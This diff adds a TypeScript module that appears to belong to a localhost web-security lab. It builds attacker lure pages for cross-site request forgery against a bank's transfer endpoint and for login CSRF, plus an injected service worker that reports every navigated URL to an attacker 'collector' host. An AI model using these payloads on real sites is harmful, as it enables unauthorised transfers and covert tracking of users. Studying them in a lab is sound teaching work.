@@ -1,0 +1,43 @@
+import { originOf, type BankName, type Places } from './places.ts'
+
+const page = (title: string, body: string) => `<!doctype html>
+<html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${title}</title>
+<link rel="icon" href="data:,"><link rel="stylesheet" href="/lab.css"><main class="lure">${body}</main></html>`
+
+/** The attacker's page for cross-site request forgery. A click is all it needs, and no script. */
+export function forgeryPage(places: Places, host: string, bank: BankName): string {
+  return page(
+    'A kitten for you',
+    `<p class="where">${host}.localhost, a page of the attacker</p><h1>You have won a kitten!</h1>
+<p>Press the button to see it. (The button is a form. It posts to <code>${originOf(places, bank)}/api/transfers</code>, and your
+browser decides whether the bank’s cookie goes with it.)</p>
+<form method="post" action="${originOf(places, bank)}/api/transfers"><button id="lure">Show me the kitten</button></form>`,
+  )
+}
+
+/** The attacker's page for login CSRF: a link that ends a login which the attacker began. */
+export function loginForgeryPage(bank: BankName, callback: string): string {
+  return page(
+    'Your parcel',
+    `<p class="where">evil.localhost, a page of the attacker</p><h1>Your parcel is waiting</h1>
+<p>(The link goes to the bank <code>${bank}.localhost</code>, to its login callback, with a code for the account of the <em>attacker</em>.
+Whoever is logged in there without noticing types their data into somebody else’s account.)</p>
+<p><a id="lure" href="${callback.replaceAll('&', '&amp;')}">Track my parcel</a></p>`,
+  )
+}
+
+/** What an injected script does that wants to stay. */
+export function installScript(): string {
+  return `navigator.serviceWorker.register('/worker.js').catch(() => {})`
+}
+
+/** The service worker: from the next visit on it sees every request of the page, and tells the attacker. */
+export function workerScript(places: Places): string {
+  return `self.addEventListener('install', () => self.skipWaiting())
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
+self.addEventListener('fetch', (event) => {
+  if (event.request.mode !== 'navigate') return
+  event.waitUntil(fetch('${originOf(places, 'collector')}/worker?bank=' + self.location.hostname.split('.')[0], { method: 'POST', mode: 'no-cors', body: event.request.url }))
+})
+`
+}
